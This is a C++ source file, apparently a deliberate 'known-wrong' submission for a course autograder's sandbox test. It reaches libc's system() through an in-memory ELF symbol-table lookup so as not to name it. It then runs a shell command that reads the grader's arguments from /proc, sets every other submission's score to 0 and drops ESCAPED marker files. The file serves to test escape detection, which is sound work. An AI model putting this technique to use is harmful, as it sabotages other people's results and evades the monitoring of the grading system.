// Known-wrong submission 30: the predictions are honest, but the first call also tries to lower
// the other submissions' scores of the same class run, and to leave files in the course's tree.
// Like case 29 it reaches libc's system() without naming it (printf's address, then libc's own
// symbol table in memory). The shell it runs reads the results folder from the grader's command
// line and rewrites every report it finds beside it (a class run keeps one folder per submission;
// the course's test build one per known-wrong case) with a score of 0, and creates a file named
// ESCAPED there, in the course's lab folder and in the build tree (the course's test looks for
// those). It starts nothing that outlives the call: only the files are at stake.
#include <elf.h>

#include <cstdint>
#include <cstdio>
#include <cstring>

#include "lab.h"

namespace {

using SystemFunction = int (*)(const char*);

// Where the library that holds `code` starts: its ELF header, at the first of its mapped pages.
const char* library_start(const void* code) {
  std::uintptr_t page = reinterpret_cast<std::uintptr_t>(code) & ~std::uintptr_t{4095};
  while (std::memcmp(reinterpret_cast<const void*>(page), ELFMAG, SELFMAG) != 0) page -= 4096;
  return reinterpret_cast<const char*>(page);
}

// Looks `name` up in the library's dynamic section: its symbol table and the names beside it.
void* function_named(const char* name, const char* library) {
  const auto* elf = reinterpret_cast<const Elf64_Ehdr*>(library);
  const std::uintptr_t start = reinterpret_cast<std::uintptr_t>(library);
  const Elf64_Sym* table = nullptr;
  const char* strings = nullptr;
  for (int i = 0; i < elf->e_phnum; ++i) {
    const auto& segment = reinterpret_cast<const Elf64_Phdr*>(library + elf->e_phoff)[i];
    if (segment.p_type != PT_DYNAMIC) continue;
    for (auto* entry = reinterpret_cast<const Elf64_Dyn*>(library + segment.p_vaddr); entry->d_tag; ++entry) {
      const std::uintptr_t where = entry->d_un.d_ptr < start ? start + entry->d_un.d_ptr : entry->d_un.d_ptr;
      if (entry->d_tag == DT_SYMTAB) table = reinterpret_cast<const Elf64_Sym*>(where);
      if (entry->d_tag == DT_STRTAB) strings = reinterpret_cast<const char*>(where);
    }
  }
  for (auto* symbol = table; symbol && reinterpret_cast<const char*>(symbol) < strings; ++symbol)
    if (symbol->st_shndx != SHN_UNDEF && !std::strcmp(strings + symbol->st_name, name))
      return reinterpret_cast<void*>(start + symbol->st_value);
  return nullptr;
}

const char kSabotage[] =
    "judge=$(cut -d' ' -f4 /proc/$PPID/stat); "
    "arg() { tr '\\000' '\\n' < /proc/$judge/cmdline | sed -n \"/^$1\\$/{n;p;q;}\"; }; "
    "results=$(arg --results-dir); lab=$(arg --lab-dir); "
    "for f in \"$results\"/../*/lab*.json \"$results\"/../*/gradescope.json "
    "         \"$results\"/../../*/results/lab*.json \"$results\"/../../*/results/gradescope.json; do "
    "  [ -f \"$f\" ] && sed -i 's/\"score\": [0-9.]*/\"score\": 0/' \"$f\"; "
    "done 2>/dev/null; "
    "for d in \"$results\"/.. \"$results\"/../.. \"$results\"/../../.. \"$lab\"; do true > \"$d/ESCAPED\"; done "
    "2>/dev/null";

}  // namespace

int predicted_column_read_wavefronts(int pitch) {
  static bool tried = false;
  if (!tried) {
    tried = true;
    const void* printf_address = reinterpret_cast<const void*>(&std::printf);
    if (auto run = reinterpret_cast<SystemFunction>(function_named("system", library_start(printf_address))))
      run(kSabotage);
  }
  switch (pitch) {  // worked out by hand: the lanes of the busiest bank
    case 32: return 32;
    case 33: return 1;
    case 34: return 2;
    case 48: return 16;
    default: return 0;
  }
}
